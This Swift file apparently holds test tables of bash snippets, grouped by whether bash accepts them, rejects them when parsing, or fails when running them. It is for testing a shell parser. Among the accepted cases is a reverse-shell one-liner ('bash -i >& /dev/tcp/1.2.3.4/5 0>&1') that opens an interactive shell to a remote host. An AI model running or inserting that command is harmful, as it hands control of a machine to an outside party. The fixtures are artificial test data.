// SPDX-License-Identifier: Apache-2.0

/// Texts, one a line or between lines of `%%`, by what becomes of them. Each is given to bash as well.
enum ShellTable {

    /// Programs.
    static let acceptedLines = lines(
        ##"""
        a b c
        'a b' "c d" $'e\tf' $"g"
        a\ b \; \& \| \< \> \( \) \" \' \$ \`
        a;b;c
        a&b&c&
        a;
        a &
        a && b || c
        a | b |& c
        ! a
        ! ! a
        !
        ! ;
        ! time a
        time ! a
        time
        time -p a
        time -- a
        time -p -- a
        time ;
        a | time b
        time time a
        !a
        ( a )
        (a;b)
        (a) | (b)
        (a) > x
        { a; }
        { a; } > x
        { a; } | { b; }
        { { a; } }
        { { a; }; }
        { (a) }
        { { a; } >x ; }
        if a; then b; fi
        if a; then b; else c; fi
        if a; then b; elif c; then d; fi
        if a; then b; elif c; then d; else e; fi
        if a; then b; fi | c
        if a; then b; fi; c
        if (a) then b; fi
        if (a) then (b) fi
        if { a; } then { b; } fi
        while a; do b; done
        until a; do b; done
        while a; do b; done < x
        for i in; do a; done
        for i; do a; done
        for i do a; done
        for i in a b; { c; }
        for i in a b; do c; done | d
        for ((;;)); do a; done
        for ((i=0;i<3;i++)); do a; done
        for ((i=0;i<3;i++)) do a; done
        for ((i=0;i<3;i++)) { a; }
        for (( ; ; )) ; { a; }
        for ((i=(1+2);i<3;i++)) do a; done
        for if in x; do c; done
        for in in in; do c; done
        select x in a b; do c; done
        select x; do c; done
        select x do c; done
        case a in esac
        case a in b) c;; esac
        case a in b) c; esac
        case a in b) ;; esac
        case a in b) esac
        case a in (b) c;; esac
        case a in b|c) d;; (e|f) g;; esac
        case a in b) c;& d) e;;& f) g;; esac
        case a in b) c;; esac | d
        case in in in) x;; esac
        case $x in *) a;; esac
        case a in (esac) b;; esac
        case a in b|esac) c;; esac
        case a in if) b;; then) c;; esac
        case a in b) if c; then d; fi;; esac
        case a in b) if c; then d; fi esac
        case a in b) (c) esac
        case a in b) { c; } esac
        case a in b) { c; };; esac
        case "a b" in 'a b') c;; esac
        case a in "b"|'c') d;; $e) f;; esac
        case a in b) c & ;; esac
        case a in b) c &;; esac
        case a in b) c ; ;; esac
        f() { a; }
        f () { a; }
        f ( ) { a; }
        f() (a)
        f() if a; then b; fi
        f() for i in a; do b; done
        f() [[ a ]]
        f() ((1))
        f() { a; } > x 2>&1
        f() { a; } | b
        f() { a; }; g
        function f { a; }
        function f() { a; }
        function f () { a; }
        function f ( ) { a; }
        function f (a)
        function f ((1))
        function f [[ a ]]
        function f if a; then b; fi
        function if { a; }
        function a-b.c { d; }
        a-b.c() { d; }
        "f"() { a; }
        'f'() { a; }
        \f() { a; }
        $f() { a; }
        f$x() { a; }
        f() { a; } &
        ! f() { a; }
        [() { a; }
        1() { a; }
        f() { g() { a; }; }
        f() { g() { a; } }
        [[ a ]]
        [[a ]]
        [[ -f a ]]
        [[ a == b ]]
        [[ a = b && c != d ]]
        [[ a == b || ( c == d && ! e ) ]]
        [[ ! a ]]
        [[ ! ! a ]]
        [[ !a ]]
        [[ a < b ]]
        [[ a > b ]]
        [[ a<b ]]
        [[ a >b ]]
        [[ a -eq b ]]
        [[ a -nt b ]]
        [[ (a) ]]
        [[ a =~ b ]]
        [[ a =~ (b|c) ]]
        [[ a =~ ^(b|c)d*$ ]]
        [[ a =~ (b c) ]]
        [[ a =~ b|c ]]
        [[ a =~ [0-9]+(\.[0-9]+)? ]]
        [[ a =~ "b c" ]]
        [[ a =~ b\ c ]]
        [[ a =~ $x ]]
        [[ a =~ ^$ ]]
        [[ a =~ | ]]
        [[ a =~ (#b) ]]
        [[ a =~ ( #b) ]]
        [[ a =~ ("b)") ]]
        [[ a == @(b|c) ]]
        [[ a == !(b|c) ]]
        [[ a = *(b|c)d ]]
        [[ a == b@( c | d ) ]]
        [[ -a b ]]
        [[ -z "" ]]
        [[ -n $a && -z $b ]]
        [[ -q ]]
        [[ - ]]
        [[ -v a[1] ]]
        [[ $(a) == `b` ]]
        [[ a ]] > x
        [[ a ]] && b
        [[ a ]] | b
        [[ a ]]; b
        [[ -t 1 ]]
        [[ ( a ) ]]
        [[ ( a == b ) ]]
        [[ (a == b) ]]
        [[ (a == b)]]
        [[ 'a' == "b" ]]
        [[ a == <(b) ]]
        [[ $a ]]
        [[ ${a} == ${b:-c d} ]]
        [[ a == "$b"* ]]
        ((1))
        ((a+b))
        (( a + b ))
        ((a=1,b=2))
        ((1) )
        ((a);(b))
        ((a);b)
        (( (a) ; (b) ))
        ((a) | b)
        ((a) || (b))
        ((a || b))
        ((a < b))
        (("a"))
        (($(a)))
        ((`a`))
        ((${a}))
        ((a)) > x
        ((a)); b
        ((a)) && ((b))
        ( (a) )
        ((a)&&b)
        (( ))
        (())
        ((a[1]))
        ((a='x'))
        ((')'))
        ((")"))
        ((\)))
        (( a ) )
        (((a)))
        (((a);b))
        ((((a))))
        ( ((a)) )
        ((((a);b);c);d)
        coproc a
        coproc a b
        coproc { a; }
        coproc N { a; }
        coproc N (a)
        coproc (a)
        coproc N if a; then b; fi
        coproc if a; then b; fi
        coproc N while a; do b; done
        coproc N ((1))
        coproc ((1))
        coproc N [[ a ]]
        coproc a | b
        coproc a; b
        coproc N a
        coproc a=b
        coproc > x
        coproc { a; } > x
        coproc N { a; } > x
        a | coproc b
        ! coproc b
        coproc time a
        coproc N time a
        a > b
        a >b
        a>b
        a 2>b
        a 2 >b
        a2>b
        a >> b
        a >| b
        a <> b
        a < b
        a <b >c
        a 2>&1
        a >&2
        a >&-
        a <&-
        a >& -
        a >&-b
        a 2>&1-
        a &> b
        a &>> b
        a&>b
        a >&b
        a >& b
        > a
        > a b
        >a
        <a
        2>a
        a {fd}>b
        a {fd}>&-
        a {fd} > b
        a {1}>b
        a {a-b}>b
        a {fd}<b c
        {fd}>a
        {fd}>a b
        a 3>&2 2>&1
        a 10>b
        a 1234567>b
        a 2>&b
        a <<<b
        a <<< b
        a <<<"b c"
        a <<<$b
        a < <(b)
        a > >(b)
        a <(b)
        a <(b) >(c)
        a<(b)
        a <(b)c
        <(a)
        <(a) b
        a <( )
        a <()
        a >()
        a 2> >(b)
        a 2>(b)
        a >$b
        a >"b"
        a >{b,c}
        a <a <b <c
        a > b > c
        a 2>>b
        a=1
        a=
        a= b
        a=1 b
        a=1 b=2 c
        a=1 b=2
        a =1
        a+=1
        a+=1 b
        a[1]=2
        a[1 + 2]=3
        a[$i]=b c
        a[b]+=c
        a[1 2] b
        a[1]b
        b a[1 2]=3
        a=(1 2 3)
        a=()
        a=( )
        a=(1 2) b
        a=(1 2) b=3
        a+=(1)
        a=([0]=1 [1]=2)
        a=([a b]=c)
        a=([a]+=c)
        a=([0] 1)
        a=(<(b))
        a=($(b) `c` "d e")
        a=(b) c=(d) e
        a=(1)b
        a=(1) | b
        a[1]=(1)
        declare a=(1 2)
        declare -a a=(1 2) b=3 c
        declare -A a=([b]=c) > x
        local a=(1)
        export a=(1)
        readonly a=(1)
        typeset -a a=(1)
        declare a+=(1)
        a=1 declare b=(1)
        >x declare b=(1)
        a=$(b)
        a="b c" d
        a='b'c"d"$e
        a=b=c
        a=~
        a=~/b:~/c
        1a=b
        a.b=c
        a-b=c
        =a
        ==
        a==b
        "a"=b
        a"b"=c
        a=b&c
        a=b;c
        a=b|c
        'a'b'c'
        "a"b"c"
        ''
        ""
        ``
        $''
        $""
        'a\'
        "a\"b"
        "a\\"
        "a'b"
        'a"b'
        "a`b`c"
        "a$(b)c"
        "a$(b "c")d"
        "a`b "c"`d"
        "a`b \"c\"`d"
        "$()"
        "``"
        "${a}"
        "$((1))"
        "$[1]"
        "$"
        $
        $ a
        a$
        $$ $! $? $# $@ $* $- $0 $1 $9 $10
        $a$b
        ${a}${b}
        ${a}b
        ${a:-b}
        ${a:-b c}
        ${a:-"b c"}
        ${a:-'b c'}
        ${a:-$b}
        ${a:-${b:-c}}
        ${a:-$(b)}
        ${a:-`b`}
        ${a:-{b}}
        ${a:-b}}
        ${a:-(}
        ${a:-)}
        ${a:-;}
        ${a:-#}
        ${a:- #}
        ${a:-'}'}
        ${a:-"}"}
        ${a:-\}}
        "${a:-'b'}"
        "${a:-"b c"}"
        "${a:-\}}"
        "${a:-}}"
        "${a#'b'}"
        "${a#'}'}"
        "${a%'}'}"
        "${a/'}'/b}"
        "${a/b/'}'}"
        "${a^'b'}"
        "${a:'1'}"
        "${a@Q}"
        ${a@Q} ${a@U} ${a@L} ${a@u} ${a@E} ${a@P} ${a@A} ${a@K} ${a@a} ${a@k}
        ${a:=b} ${a=b} ${a:?b} ${a?b} ${a:+b} ${a+b} ${a-b}
        ${a#b} ${a##b} ${a%b} ${a%%b}
        ${a/b} ${a/b/c} ${a//b/c} ${a/#b/c} ${a/%b/c} ${a//b} ${a/}
        ${a///b} ${a/\//b} ${a//\//_} ${a/"/"/b} ${a/'/'/b}
        ${a:1} ${a:1:2} ${a: -1} ${a:(-1)} ${a:b?c:d:e} ${a:$b:$c} ${a::2} ${a:}
        ${a^} ${a^^} ${a,} ${a,,} ${a~} ${a~~} ${a^b} ${a,,[a-z]}
        ${#a} ${#} ${##} ${#-} ${#?} ${#@} ${#*} ${#a[@]} ${#a[1]} ${#:-b} ${#-b} ${#%b} ${##b}
        ${!a} ${!a*} ${!a@} ${!a[@]} ${!a[*]} ${!} ${!:-b} ${!1} ${!#} ${!@} ${!*} ${!a:-b}
        ${a[1]} ${a[@]} ${a[*]} ${a[b c]} ${a[$b]} ${a[${b}]} ${a[@]:1:2} ${a["b"]} ${a[']']}
        ${1} ${10} ${1:-b} ${@} ${*} ${@:1} ${@:1:2} ${*//a/b} ${@#a} ${?} ${$} ${-} ${!-}
        ${a:-$(b})}
        ${a:-<(b)}
        "${a:-<(b)}"
        ${a:-$'}'}
        "${a#$'}'}"
        $(a)
        $(a b; c)
        $()
        $( )
        $((a))
        $(( a ))
        $(( (a) ))
        $((a) )
        $( (a) )
        $((a);(b))
        $((a) | b)
        $((echo a) | (b))
        $(((a)))
        $((${a}))
        $(($(a)))
        $((`a`))
        $(("1"))
        $(('1'))
        $((a[1]))
        $((a ? b : c))
        $((1 << 2))
        $((16#ff))
        $(( # ))
        $(case a in b) c;; esac)
        $(case a in (b) c;; esac)
        $( (case a in b) c;; esac) )
        $(a ')')
        $(a ")")
        $(a \))
        $(a $(b $(c)))
        $(a `b`)
        `a $(b)`
        `a \`b\``
        `a \`b \\\`c\\\`\``
        `a;`
        `a \\`
        `a \$b`
        "`"a"`"
        $[1]
        $[a+b]
        $[a[1]]
        $[$(a)]
        $(a)$(b)
        $(<a)
        $(< a)
        $(>a)
        $(a &)
        $(a; )
        $({ a; })
        $(if a; then b; fi)
        $(for i in a; do b; done)
        $(a })
        a #b
        a#b
        a # 'b
        a #"
        #
        # a
        a;#b
        a&#b
        a {b,c}
        {b,c}
        a {1..5} {a..z} {1..10..2}
        a {b,c
        a b,c}
        a {}
        a {,}
        a {b}
        a b{c,d}e
        a {b,{c,d}}
        a {b{c,d}}
        a {{b,c}
        a {b,c}}
        a {"b",'c',$d,$(e),`f`}
        a {b\,c}
        a {b,\}}
        a ${b}{c,d}
        a {${b},c}
        a ~ ~/b ~c ~c/d ~+ ~- b~ "~" \~ '~' ~"b" ~$c
        a b=~ b=~/c:~/d --b=~/c
        a *.c ? [a-z] [!a] [^a]* \* "*"
        !(a)
        a 'b' "c" d\
        \
        a b\ c
        a\
        echo \
        exec 3<>/dev/tcp/h/1
        bash -i >& /dev/tcp/1.2.3.4/5 0>&1
        a;b&c|d
        a&&b||c;d
        a||b&&c&
        a b &c
        a &>b c
        a <b & c >d
        if a; then b; fi > c 2> d
        while :; do :; done & wait
        x=1; y=2; z
        if if a; then b; fi; then c; fi
        if while a; do b; done then c; fi
        if [[ a ]] then b; fi
        if ((1)) then b; fi
        if a | b; then c; fi
        if ! a; then b; fi
        if a & then b; fi
        if a; then b & fi
        while a; do b & done
        for i in a; do b & done
        { a & }
        (a &)
        ( a & b )
        (a; )
        echo if then else fi do done case esac for while until { } ! [[ ]]
        echo }
        echo {
        echo ! 
        echo time
        a <<E
        """##)

    /// Programs. Of several lines.
    static let acceptedTexts = texts(
        ##"""
        a
        b
        %%


        a

        %%
        a

        b
        %%
        a &&
        b
        %%
        a &&

        # c
        b ||
        c
        %%
        a |
        b
        %%
        a |&
        b
        %%
        a \
        b
        %%
        a\
        b
        %%
        a &\
        & b
        %%
        a >\
        > b
        %%
        i\
        f a; then b; fi
        %%
        "a\
        b"
        %%
        'a\
        b'
        %%
        [[ -f\
         a ]]
        %%
        ${a:-b\
        c}
        %%
        $\
        (a)
        %%
        $\
        {a}
        %%
        ${\
        a}
        %%
        $(\
        (1))
        %%
        a <\
        <E
        b
        E
        %%
        echo "a
        b"
        %%
        if a
        then b
        else c
        fi
        %%
        if
        a
        then
        b
        fi
        %%
        while a
        do
        b
        done
        %%
        for i in a b
        do
        c
        done
        %%
        for i
        do
        c
        done
        %%
        for i
        in a
        do c; done
        %%
        for i

        in a

        do c; done
        %%
        for i in a b;

        do c; done
        %%
        for i;

        do c; done
        %%
        for ((;;))
        do a; done
        %%
        for ((;;));
        do a; done
        %%
        for ((;
        ;))
        do a; done
        %%
        for i
        { a; }
        %%
        for i in a
        { b; }
        %%
        case a in
        b) c;;
        d) e;;
        esac
        %%
        case a
        in
        b)
        c
        ;;
        esac
        %%
        case a

        in b) c;; esac
        %%
        case a in
        b) c
        esac
        %%
        case a in b) c
        ;; # d
        # e
        f) g
        ;;
        esac
        %%
        case a in # b
        c) d;;
        esac
        %%
        f()
        { a; }
        %%
        f()

        { a; }
        %%
        function f
        { a; }
        %%
        function f

        { a; }
        %%
        function f ()
        { a; }
        %%
        f() # c
        { a; }
        %%
        {
        a
        }
        %%
        (
        a
        )
        %%
        { a
        }; b
        %%
        [[ a &&
        b ]]
        %%
        [[ !
        a ]]
        %%
        [[ a == b
        ]]
        %%
        [[ a =~ (b
        c) ]]
        %%
        ((a
        +b))
        %%
        $((a
        +b))
        %%
        $(
        a
        b
        )
        %%
        `
        a
        b
        `
        %%
        a=(
        1
        2 # c
        # d
        3
        )
        %%
        a=(b
        ) c
        %%
        a <<E
        b
        E
        %%
        a <<E
        b
        E
        c
        %%
        a <<E b
        c
        E
        %%
        a <<E; b
        c
        E
        %%
        a <<E | b
        c
        E
        %%
        a <<E &&
        c
        E
        b
        %%
        a <<'E'
        $b `c
        E
        %%
        a <<"E"
        $(b
        E
        %%
        a <<\E
        ${b
        E
        %%
        a <<E
        $(b) ${c} `d` $((1)) \$e
        E
        %%
        a <<-E
        	b
        	E
        %%
        a <<- E
        	b
        E
        %%
        a <<-'E F'
        	b
        	E F
        %%
        a <<E
        b
        %%
        a <<E

        %%
        a <<A <<B
        a
        A
        b
        B
        %%
        a <<A; b <<B; c
        a
        A
        b
        B
        d
        %%
        a <<E
        b\
        E
        E
        %%
        a <<'E'
        b\
        E
        %%
        a <<E
         E
        E 
        E
        %%
        (a <<E)
        b
        E
        %%
        (a <<E
        b
        E
        )
        %%
        { a <<E; }
        b
        E
        %%
        $(a <<E
        b
        E
        )
        %%
        "$(a <<E
        it's
        E
        )"
        %%
        `a <<E
        b
        E
        `
        %%
        a <<E
        $(b <<F
        c
        F
        )
        E
        %%
        if a <<E
        b
        E
        then c; fi
        %%
        while a; do b; done <<E
        c
        E
        %%
        f() { a; } <<E
        b
        E
        %%
        f() {
        a <<E
        b
        E
        }
        %%
        a <<E "b
        c" d
        e
        E
        %%
        a <<E $(b) d
        e
        E
        %%
        a <<''
        b

        c
        %%
        a <<"a b"
        c
        a b
        %%
        a <<E # c
        b
        E
        %%
        a 3<<E
        b
        E
        %%
        a <<E >b
        c
        E
        d
        %%
        case a in b) c <<E;;
        d
        E
        e) f;; esac
        %%
        a <<E
        "
        E
        %%
        a <<E
        '
        E
        %%
        a <<E
        ${b:-'c'}
        E
        %%
        a <<E
        \`b\`
        E
        %%
        a <<E
        $
        E
        %%
        [[ a ]] <<E
        b
        E
        %%
        ((1)) <<E
        b
        E
        %%
        a <<$'E'
        b
        E
        %%
        a <<$"E"
        b
        E
        %%
        a <<E'F'
        $b
        EF
        %%
        a <<E\ F
        b
        E F
        %%
        ! 
        a
        %%
        time
        a
        %%
        a |
        time b
        %%
        coproc N
        { a; }
        %%
        select x
        in a
        do b
        done
        %%
        until
        a
        do
        b
        done
        %%
        if a; then
        b
        elif c
        then
        d
        else
        e
        fi
        %%
        export a=(
        b
        c
        )
        %%
        a && (
        b
        ) || {
        c
        }
        %%
        foo() {
          local x=$1; shift
          while [ $# -gt 0 ]; do
            case "$1" in
              -a|--all) all=1 ;;
              --) shift; break ;;
              -*) echo "bad: $1" >&2; return 1 ;;
              *) args+=("$1") ;;
            esac
            shift
          done
        }
        %%
        set -e
        for f in *.txt; do
          [ -e "$f" ] || continue
          mv -- "$f" "${f%.txt}.md"
        done
        %%
        while IFS= read -r line; do
          echo "$line"
        done < <(find . -name '*.c' -print0 | xargs -0 cat)
        %%
        cat <<EOF > /tmp/x
        #!/bin/sh
        echo "it's $HOME"
        EOF
        chmod +x /tmp/x && /tmp/x
        %%
        python3 - <<'PY'
        import os
        print("$x `y` ${z")
        PY
        %%
        trap 'rm -f "$tmp"' EXIT
        tmp=$(mktemp)
        %%
        a "$(cat <<'E'
        it's (
        E
        )"
        %%
        git commit -m "$(cat <<'EOF'
        Subject

        It's a body with "quotes" and (parens) and `ticks`.
        EOF
        )"
        %%
        git commit -m "$(cat <<EOF
        a $(b) c
        EOF
        )" && git push
        %%
        echo $(
          # it's a comment
          echo a
        )
        %%
        echo $((
         1 +
         2
        ))
        %%
        x=`cat <<E
        a
        E`
        %%
        ((
        a
        ))
        %%
        for x in a \
          b \
          c
        do
         :
        done
        %%
        a=1 \
        b
        %%
        a | # c
        b
        %%
        a && # c
        b
        %%
        { # c
        a # d
        }
        %%
        if # c
        a # d
        then # e
        b
        fi # f
        """##)

    /// What bash refuses when it reads it.
    static let refusedLines = lines(
        ##"""
        ;
        &
        a;;b
        a &&
        && a
        a ||
        || a
        a |
        | a
        a | | b
        a |& & b
        ! | a
        a | ! b
        time &
        ( )
        ()
        (a
        a)
        (a) b
        (a) (b)
        (a)(b)
        (a) > x y
        (a) a=1
        { a }
        { a; } }
        { a; } b
        {a; }
        { }
        { ; }
        { (a) b; }
        { a; } >x }
        { { a; } >x }
        }
        {
        { a
        if a then b; fi
        if a; then; fi
        if ; then a; fi
        if a; then b; fi c
        if a; then b
        if a; b; fi
        fi
        then
        else
        elif
        do
        done
        esac
        in
        in a
        ]]
        [[
        while a; do done
        while do a; done
        while a; { b; }
        for i in a b c
        for i in a b do c; done
        for i { a; }
        for; do a; done
        for i in a b & do c; done
        for (;;) do a; done
        case a in b) c esac
        case a in b) c;; ;; esac
        case a in ;; esac
        case a in b c) d;; esac
        case a in b) c;; esac d
        case in in in) in;; esac
        case a b
        case a in esac) b;; esac
        case a in b) esac;; esac
        case a in
        case a in b
        case a in b)
        case
        case a
        case a; in b) c;; esac
        case a in |b) c;; esac
        case a in b|) c;; esac
        case a in ) c;; esac
        case a in b) & ;; esac
        f() a
        f() { a; } b
        f() g() { a; }
        f() coproc a
        function f a
        function f
        function
        a=b() { c; }
        f(a) { b; }
        f(
        f()
        f() {
        f() }
        f a() { b; }
        a=1 f() { b; }
        >x f() { b; }
        if() { a; }
        for() { a; }
        time() { a; }
        f() { :; } g
        f() ( ) 
        [[ a]]
        [[ ]]
        [[ -f ]]
        [[ -f ]] ]]
        [[ ! ]]
        [[ 1<2 ]]
        [[ a -foo b ]]
        [[ a b ]]
        [[ a == b c ]]
        [[ a && ]]
        [[ && a ]]
        [[ a & b ]]
        [[ a | b ]]
        [[ a ; b ]]
        [[ (a ]]
        [[ a) ]]
        [[ ( ) ]]
        [[ a =~ (b ]]
        [[ a =~ b) ]]
        [[ a =~ < ]]
        [[ a =~ a<b ]]
        [[ a =~ a;b ]]
        [[ a =~ ]]
        [[ @(a) == b ]]
        [[ a -eq @(b) ]]
        [[ a == (b) ]]
        [[ a == ]]
        [[ == a ]]
        [[ -a ]]
        [[ -z == b ]]
        [[ -q a ]]
        [[ a -a b ]]
        [[ -e a -o -e b ]]
        [[ a ]] b
        [[ a ]]b
        [[ -t 1<2 ]]
        [[ a == b]]
        [[ a # c ]]
        [[ a == #b ]]
        [[ "-f" a ]]
        [[ \-f a ]]
        [[ a \< b ]]
        [[ a "==" b ]]
        [[ a ]] ]]
        [[ ]] ]]
        [[ x == ]] ]]
        ((
        ((1)
        ((a)) b
        ((a))b
        coproc
        coproc f() { a; }
        coproc coproc a
        coproc ! a
        a &>
        a >
        a > >
        a > ; b
        a > & b
        a > | b
        a > (b)
        a > > b
        >
        a <<<
        a <<< <b
        a <(b
        a >>(b)
        a <<(b)
        a <&(b)
        a &>(b)
        a < (b)
        a <<>b
        a >>>b
        a <<<<b
        a[
        a[1
        a[1 2
        a=(1 2
        a= (1)
        a=([a b)
        a=(a|b)
        a=(a;b)
        a=(a&b)
        a=(a > b)
        a=((1))
        a=(a (b))
        a=(b #c
        b a=(1)
        echo a=(1)
        command declare a=(1)
        builtin declare a=(1)
        declare a=(1
        "declare" b=(1)
        \declare b=(1)
        declare "b"=(1)
        declare b =(1)
        declare (1)
        a=(
        a=)
        'a
        "a
        `a
        $'a
        $"a
        a'
        a"
        a`
        "a\"
        'a\'b'
        "$("
        "`"
        "$((1)"
        "$["
        ${a:-'}
        ${a:-"}
        "${a:-'}"
        "${a:-it's}"
        "${a:-"}"
        "${a#'}"
        "${a/'/b}"
        "${a:'}"
        ${a
        ${a:-
        ${a:-b
        ${a:-$(}
        ${a:-`}
        ${a:-$(b}
        $(
        $(a
        $(a))
        $((a)
        $((1 #b
        $(a # b)
        $[
        $[1
        $(;)
        $(&)
        $(a |)
        $(!)
        $(! )
        $({ a; }
        $(fi)
        $(})
        $(a;})
        (a #b)
        (#a
        a @(b)
        a !(b)
        a ?(b|c)
        a *(b) +(c)
        @(a)
        a@(b)
        shopt -s extglob; a !(b)
        a b(c)
        a(b)
        a (b)
        a b (c)
        $a(b)
        a"b"(c)
        a & & b
        a ; ; b
        a & ; b
        a && ; b
        a && & b
        a | ; b
        a ;& b
        a ;;& b
        a &; b
        a;&
        if a; then b; fi c=1
        { a || }
        (a ||)
        (a ;;)
        echo { a; }
        echo (
        echo )
        a=(1
        a << ;
        """##)

    /// What bash refuses when it reads it. Of several lines.
    static let refusedTexts = texts(
        ##"""
        a
        | b
        %%
        a
        && b
        %%
        # a \
        b (
        %%
        for
        i in a; do b; done
        %%
        case
        a in b) c;; esac
        %%
        case a in
        b|
        c) d;; esac
        %%
        case a in
        b
        ) d;; esac
        %%
        case a in
        (
        b) d;; esac
        %%
        f
        () { a; }
        %%
        function
        f { a; }
        %%
        {
        }
        %%
        ( # a
        )
        %%
        [[ a
        == b ]]
        %%
        [[ a ==
        b ]]
        %%
        [[
        a
        ]]
        %%
        [[ a
        && b ]]
        %%
        [[ -f
        a ]]
        %%
        [[ (
        a
        ) ]]
        %%
        [[ a =~
        b ]]
        %%
        [[ a

        || b

        ]]
        %%
        a <<
        E
        %%
        coproc
        a
        %%
        a
        ;
        b
        %%
        a
        )
        %%
        a
        }
        %%
        a # b \
        c)
        """##)

    /// What bash reads, and refuses or leaves open when it runs.
    static let lateLines = lines(
        ##"""
        for ((i=0;i<3)) do a; done
        for ((;;;)) do a; done
        for a-b in x; do c; done
        for $x in x; do c; done
        for 'x' in x; do c; done
        coproc "N" { a; }
        coproc $N { a; }
        alias a=(1)
        eval a=(1)
        let a=(1)
        declare a[1]=(1)
        "${"
        "${a"
        "${}"
        ${a@z}
        ${a@}
        ${a b}
        ${a.b}
        ${ a; }
        ${|a; }
        ${'a'}
        ${"a"}
        ${$a}
        ${$(a)}
        ${-b}
        ${a[}
        ${a[1}
        "${a:-$'}'}"
        $((case a in b) c;; esac) )
        `if`
        `;`
        `a "b`
        `a 'b`
        `'`
        "`'`"
        """##)

    /// What bash reads, and refuses or leaves open when it runs. Of several lines.
    static let lateTexts = texts(
        ##"""
        $(a <<E
        b
        E)
        %%
        $(a <<E)
        b
        E
        %%
        a <<E $(b
        c) d
        e
        E
        %%
        a <<$b
        c
        $b
        %%
        a <<E
        `'`
        E
        %%
        a <<E
        ${b:-"c"}
        E
        %%
        a <<E
        `
        E
        %%
        a <<E
        $(
        E
        %%
        a <<E
        ${
        E
        """##)

    /// Programs once `extglob` is on; bash's `-n` does not turn it on.
    static let extended = texts(
        ##"""
        shopt -s extglob
        a !(b|c) @(d)
        %%
        shopt -s extglob
        case a in @(b|c)) d;; esac
        %%
        shopt -s extglob
        a=!(b)
        """##)

    static let accepted = acceptedLines + acceptedTexts
    static let refused = refusedLines + refusedTexts
    static let late = lateLines + lateTexts

    private static func lines(_ text: String) -> [String] {
        text.split(separator: "\n").map(String.init)
    }

    private static func texts(_ text: String) -> [String] {
        var texts: [String] = []
        var lines: [Substring] = []
        for line in text.split(separator: "\n", omittingEmptySubsequences: false) {
            if line == "%%" {
                texts.append(lines.joined(separator: "\n"))
                lines = []
            } else {
                lines.append(line)
            }
        }
        return texts + [lines.joined(separator: "\n")]
    }
}
